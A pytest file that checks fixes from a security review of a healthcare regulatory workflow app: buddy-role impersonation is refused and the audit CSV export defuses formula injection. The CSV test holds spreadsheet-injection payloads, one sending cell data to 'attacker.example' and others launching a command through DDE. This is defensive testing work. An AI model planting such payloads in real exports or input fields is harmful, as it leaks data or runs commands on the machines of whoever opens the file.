"""Attacks from the outside review (issue 17), each performed through the real app over HTTP.

Findings covered here: 1 (acting as the buddy without the buddy role), 3 (withdrawn identity-provider keys),
4 (no JWKS fetch on the event loop), 5 (token claims), 6 (weak secrets), 7 (CSV formula injection).
docs/security.md says what each fix guarantees.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx

from tests.driver import Regime
from tests.test_buddy import PLAN as SUPPORT_PLAN
from tests.test_buddy import place_and_agree

ROOT = Path(__file__).resolve().parent.parent
ISSUER = "https://login.example.nhs.uk/realms/special-measures"
GENERIC = "the bearer token is not valid"


def problem(r: httpx.Response) -> dict[str, Any]:
    assert r.headers["content-type"].startswith("application/problem+json"), (r.status_code, r.text)
    return r.json()


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


# ---------------------------------------------------------------------------- 1: the buddy role
async def test_only_a_buddy_role_user_of_the_buddy_trust_acts_as_the_buddy(stack):
    w, pid = await place_and_agree(stack, "RS1", "BS1")
    url = f"/regimes/{w.rid}/buddies/{pid}/plan-changes"
    new_plan = {"workstreams": SUPPORT_PLAN["workstreams"][:1]}
    body = {"plan": new_plan, "reason": "narrow the support to governance"}
    impostors = {
        # read-only staff who happen to belong to the buddy trust
        "operations of the buddy trust": stack.auth("ops-bs1", "operations", org="BS1"),
        # a trust-role user of the buddy trust (assigned to it as a trust)
        "trust user of the buddy trust": stack.auth("trust-bs1", "trust", trusts=["BS1"], org="BS1"),
        "commissioner of the buddy trust": stack.auth("ccg-bs1", "commissioner", trusts=["BS1"], org="BS1"),
        "admin of the buddy trust": stack.auth("admin-bs1", "admin", org="BS1"),
        "a buddy of another trust": stack.auth("buddy-bs9", "buddy", org="BS9"),
    }
    for who, headers in impostors.items():
        r = await stack.http.post(url, json=body, headers=headers)
        assert r.status_code == 403, (who, r.status_code, r.text)
        problem(r)
        # The same people cannot decide the buddy's open step by naming the role either.
        r = await stack.http.post(f"/regimes/{w.rid}/steps/BS1.q1.forecast/decisions", headers=headers,
                                  json={"action": "sign_off", "role": "buddy", "payload": {}})
        assert r.status_code == 403, (who, r.status_code, r.text)
        problem(r)
    await w.settle(pid)
    proposed = await stack.pool.fetchval(
        "SELECT count(*) FROM audit_log WHERE workflow_id = $1 AND event = 'support_plan.change_proposed'", pid)
    assert proposed == 0
    assert (await w.state(pid)).plan_changes == []
    # The buddy itself still proposes, audited as the buddy.
    r = await stack.http.post(url, json=body, headers=w.buddy("BS1", "planner"))
    assert r.status_code == 201, r.text
    await w.settle(pid)
    row = await stack.pool.fetchrow(
        "SELECT actor, role FROM audit_log WHERE workflow_id = $1 AND event = 'support_plan.change_proposed'", pid)
    assert dict(row) == {"actor": "planner-BS1", "role": "buddy"}


# ---------------------------------------------------------------------------- 7: CSV formula injection
async def test_the_trust_audit_csv_does_not_carry_live_formulas(stack):
    reg = await Regime.place(stack, "RS7")
    await stack.settle(reg.id)
    payloads = {
        "reason": '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")',
        "request_id": "+cmd|' /C calc'!A0",
        "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    r = await stack.http.post(f"/regimes/{reg.id}/steps/improvement_plan/deadline",
                              headers={**stack.auth(payloads["actor"], "regulator"),
                                       "X-Request-Id": payloads["request_id"]},
                              json={"new_due": str(reg.today + timedelta(days=40)), "reason": payloads["reason"]})
    assert r.status_code == 200, r.text
    r = await stack.http.post(f"/regimes/{reg.id}/steps/improvement_plan/deadline",
                              headers=stack.auth("reg-2", "regulator"),
                              json={"new_due": str(reg.today + timedelta(days=41)), "reason": "-2+3"})
    assert r.status_code == 200, r.text
    await stack.settle(reg.id)
    ops = stack.auth("ops-1", "operations")
    r = await stack.http.get("/trusts/RS7/audit", params={"format": "csv"}, headers=ops)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    cells = [v for row in rows for v in row.values()]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == [], live
    amended = [row for row in rows if row["actor"] == "'" + payloads["actor"]]
    assert amended and amended[0]["reason"] == "'" + payloads["reason"]
    assert amended[0]["request_id"] == "'" + payloads["request_id"]
    assert any(row["reason"] == "'-2+3" for row in rows)
    # The JSON export is data, not a spreadsheet: it keeps the values as they were written.
    items = (await stack.http.get("/trusts/RS7/audit", headers=ops)).json()["items"]
    assert any(it["reason"] == payloads["reason"] and it["actor"] == payloads["actor"] for it in items)
